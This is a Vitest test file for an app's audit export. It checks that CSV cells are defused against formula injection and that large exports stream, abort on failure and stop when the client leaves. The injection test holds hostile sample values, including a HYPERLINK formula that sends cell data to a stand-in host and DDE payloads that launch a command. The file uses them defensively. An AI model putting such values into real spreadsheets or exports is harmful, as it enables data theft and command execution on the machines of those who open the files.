import { request } from 'node:http';
import type { IncomingMessage } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAdapter, parseDatabaseUrl } from '../../src/store/database-url.js';
import { exportAudit } from '../../src/store/audit-export.js';
import { PrismaClient as SqliteClient } from '../../src/store/generated/sqlite/client.js';
import type { Store } from '../../src/store/types.js';
import { IN_DEV, startConsoleHarness } from './harness.js';
import type { ConsoleHarness } from './harness.js';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Splits RFC 4180 CSV text into rows of fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

// SECURITY.md C10
describe('the CSV export is data, not formulas', () => {
  let h: ConsoleHarness;
  beforeAll(async () => {
    h = await startConsoleHarness();
  });
  afterAll(async () => h?.close());

  it('neutralises cells that start with =, +, -, @, a tab or a carriage return, in the console and the CLI', async () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"click")',
      '+cmd|" /C calc"!A0',
      '-2+3+cmd|" /C calc"!A0',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    const at = h.clock.now().getTime();
    for (const [i, text] of hostile.entries())
      await h.store.recordEvent({
        repo: 'acme/shop',
        sha: IN_DEV,
        environment: text,
        type: 'NOTE',
        status: 'csv',
        actor: text,
        at: new Date(at + i * 1000),
        notes: text,
      });
    const cookie = await h.signIn('vic');
    const res = await h.call('/api/v1/audit/export?repo=acme/shop&format=csv&type=NOTE', { cookie });
    expect(res.status).toBe(200);
    const csv = await res.text();
    const rows = parseCsv(csv).slice(1);
    expect(rows.map((r) => [r[4], r[7], r[8]])).toEqual(hostile.map((t) => [`'${t}`, `'${t}`, `'${t}`]));
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const cli = await exportAudit(h.store, { repo: 'acme/shop', since: new Date(0), format: 'csv' });
    for (const t of hostile) expect(cli).toContain(`'${t.replace(/"/g, '""')}`);
    // JSON is data already: the text stays as it was written.
    const json = (await (
      await h.call('/api/v1/audit/export?repo=acme/shop&format=json&type=NOTE', { cookie })
    ).json()) as Array<{ notes: string }>;
    expect(json.map((r) => r.notes)).toEqual(hostile);
  });
});

// SECURITY.md C11
describe('the audit export streams', () => {
  const EVENTS = 100_000;
  let h: ConsoleHarness;
  let cookie: string;
  let pagesRead = 0;
  /** Pages read before the record fails (null: it does not). */
  let failAfter: number | null = null;

  beforeAll(async () => {
    h = await startConsoleHarness({ seed: false });
    // A large record, written straight into the database (the store writes one event at a time).
    const { factory, dispose } = createAdapter(parseDatabaseUrl(h.databaseUrl, process.cwd()));
    const db = new SqliteClient({ adapter: factory });
    // One event a second from 2026-01-01T00:00:00Z, in the text form Prisma keeps times in SQLite.
    await db.$executeRawUnsafe(
      `WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i + 1 < ${EVENTS})
       INSERT INTO "ReleaseEvent" ("repo", "sha", "environment", "type", "status", "actor", "at", "notes")
       SELECT 'acme/shop', '${IN_DEV}', 'production', 'NOTE', 'seed', 'seeder',
              strftime('%Y-%m-%dT%H:%M:%S', ${Date.parse('2026-01-01T00:00:00Z') / 1000} + i, 'unixepoch') || '.000+00:00',
              'event ' || i || ': a note of a realistic length, written by a person, with "quotes", commas'
       FROM n`,
    );
    await db.$disconnect();
    await dispose();
    const store = h.store as Store;
    const pageEvents = store.pageEvents.bind(store);
    store.pageEvents = (query) => {
      pagesRead++;
      if (failAfter !== null && pagesRead > failAfter) return Promise.reject(new Error('the database went away'));
      return pageEvents(query);
    };
    cookie = await h.signIn('vic');
  }, 120_000);
  afterAll(async () => h?.close());

  function open(path: string): Promise<IncomingMessage> {
    return new Promise((resolve, reject) => {
      request(`${h.url}${path}`, { headers: { cookie } }, resolve).on('error', reject).end();
    });
  }

  it('reads the record only as fast as the client takes it, and sends every event oldest first', async () => {
    for (const format of ['csv', 'json'] as const) {
      pagesRead = 0;
      const res = await open(`/api/v1/audit/export?repo=acme/shop&format=${format}`);
      expect(res.statusCode).toBe(200);
      // The client reads nothing: the App stops reading the record once the connection's buffers are full.
      await sleep(1500);
      const whilePaused = pagesRead;
      await sleep(500);
      expect(pagesRead, format).toBe(whilePaused);
      expect(whilePaused, format).toBeLessThan(EVENTS / 500 / 2);
      let text = '';
      res.setEncoding('utf8');
      for await (const chunk of res) text += chunk as string;
      expect(pagesRead, format).toBeGreaterThanOrEqual(EVENTS / 500);
      if (format === 'csv') {
        const lines = text.split('\r\n');
        expect(lines).toHaveLength(EVENTS + 2);
        expect(lines[1]).toMatch(/^2026-01-01T00:00:00.000Z,acme\/shop,/);
        expect(lines.at(-2)).toContain(`event ${EVENTS - 1}:`);
      } else {
        const records = JSON.parse(text) as Array<{ notes: string }>;
        expect(records).toHaveLength(EVENTS);
        expect(records[0]!.notes).toMatch(/^event 0:/);
      }
    }
  }, 120_000);

  it('cuts the download when the record fails part way, rather than end a file that looks whole', async () => {
    pagesRead = 0;
    failAfter = 5;
    try {
      const res = await h.call('/api/v1/audit/export?repo=acme/shop&format=csv', { cookie });
      expect(res.status).toBe(200);
      await expect(res.text()).rejects.toThrow();
    } finally {
      failAfter = null;
    }
  });

  it('stops reading the record when the client goes away', async () => {
    pagesRead = 0;
    const res = await open('/api/v1/audit/export?repo=acme/shop&format=csv');
    res.destroy();
    await sleep(1000);
    const after = pagesRead;
    await sleep(500);
    expect(pagesRead).toBe(after);
    expect(after).toBeLessThan(EVENTS / 500 / 2);
  });
});
